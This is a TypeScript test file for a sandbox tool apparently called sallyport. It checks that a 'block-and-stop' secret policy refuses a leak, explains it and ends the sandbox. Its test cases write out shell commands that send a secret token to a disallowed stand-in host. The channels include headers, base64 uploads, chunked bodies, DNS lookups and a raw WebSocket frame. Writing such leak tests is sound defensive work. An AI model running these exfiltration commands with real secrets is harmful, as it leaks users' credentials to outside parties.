/** `on_leak: block-and-stop`: a leak is refused, told, and ends the sandbox. */
import type { Event } from '../../src/events/event.js';
import { expectInvariants, facts, Stage } from './stage.js';

const NAME = 'api.example.test';
const OTHER = 'other.example.test';
const RAW = 'raw.example.test';
const stage = new Stage();
let heard: string[] = [];

beforeAll(async () => {
  for (const name of [NAME, OTHER]) {
    await stage.https(name, (request, response) => {
      heard.push(`${name} ${request.headers.authorization}`);
      request.resume().on('end', () => response.end('ok\n'));
    });
  }
  await stage.tls(RAW, socket => {
    socket.once('data', () =>
      socket.write(
        'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n',
      ),
    );
  });
  stage.env.TOKEN = 'stopping-real-value-0123456789';
  stage.env.CALM = 'calm-real-value-0123456789';
  const policy = `
allow_domain: [${OTHER}]
secrets:
  TOKEN: { hosts: [${NAME}], on_leak: block-and-stop }
  CALM: { hosts: [${NAME}], on_leak: block }
`;
  stage.flags.push('--policy', stage.place.file('policy.yaml', policy));
});
afterAll(() => stage.close());
beforeEach(() => {
  heard = [];
});

/** The shell would write `survived` 30 s later; nothing waits for that. */
const andStay = (script: string): string => `${script}; sleep 30; echo survived`;

const WHY =
  'sallyport: stopped the sandbox: TOKEN was on its way to where it may not go (on_leak: block-and-stop)\n';

function expectStopped(events: readonly Event[]): void {
  const types = events.map(({ type }) => type);
  expect(types).toContain('secret.leak');
  expect(types.indexOf('sandbox.stopped')).toBeGreaterThan(types.indexOf('secret.leak'));
  expect(types.filter(type => type === 'sandbox.stopped')).toHaveLength(1);
  expect(types).toContain('exec.done');
  expectInvariants(events);
}

const CLIENT = `openssl s_client -quiet -servername ${RAW} -connect ${RAW}:443`;
const UPGRADE = `GET / HTTP/1.1\\r\\nHost: ${RAW}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n`;

test.each([
  ['a field of a head', `curl -sS -H "X-Key: $TOKEN" https://${OTHER}/`],
  ['a content', `printf %s "$TOKEN" | base64 | curl -sS --data-binary @- https://${OTHER}/`],
  ['a content in chunks', `(sleep 0.3; printf %s "$TOKEN") | curl -sS -T - https://${OTHER}/`],
  ['a name that is looked up', `getent hosts "$TOKEN.${OTHER}"`],
  [
    'a message of a WebSocket',
    `(printf '${UPGRADE}\\201\\245\\000\\000\\000\\000%s' "$TOKEN"; sleep 5) | ${CLIENT}`,
  ],
  [
    'what is no request',
    `printf 'GET /%s HTTP/1.1\\r\\nHost: a\\r\\nHost: b\\r\\n\\r\\n' "$TOKEN" | ${CLIENT}`,
  ],
])('%s with a placeholder for another host ends the sandbox, and says why', async (place, leak) => {
  const { code, stdout, stderr, events } = await stage.sh(andStay(leak));
  expect({ code, stderr }).toMatchObject({ code: 124, stderr: expect.stringContaining(WHY) });
  expect(stdout).not.toContain('survived');
  // The head of a content that keeps us waiting leaves first; what leaks never does.
  if (place !== 'a content in chunks') expect(heard).toEqual([]);
  expectStopped(events);
});

test('it says why with --quiet too, and a command that runs in the background ends as well', async () => {
  const script = `(setsid sleep 30 &) ; curl -s -H "X-Key: $TOKEN" https://${OTHER}/; sleep 30`;
  const { code, stderr } = await stage.sh(script, { flags: ['--quiet'] });
  expect({ code, stderr }).toEqual({ code: 124, stderr: WHY });
});

test('without it, a leak is refused and the sandbox goes on; what is in scope is no leak', async () => {
  const { code, stdout, events } = await stage.sh(
    `curl -sS -o /dev/null -w '%{http_code} ' -H "X-Key: $CALM" https://${OTHER}/; curl -sS -H "Authorization: Bearer $TOKEN" https://${NAME}/`,
  );
  expect({ code, stdout }).toEqual({ code: 0, stdout: '403 ok\n' });
  expect(heard).toEqual([`${NAME} Bearer ${stage.env.TOKEN}`]);
  expect(facts(events, 'secret.leak')).toMatchObject([{ secrets: ['CALM'] }]);
  expect(events.map(({ type }) => type)).not.toContain('sandbox.stopped');
});
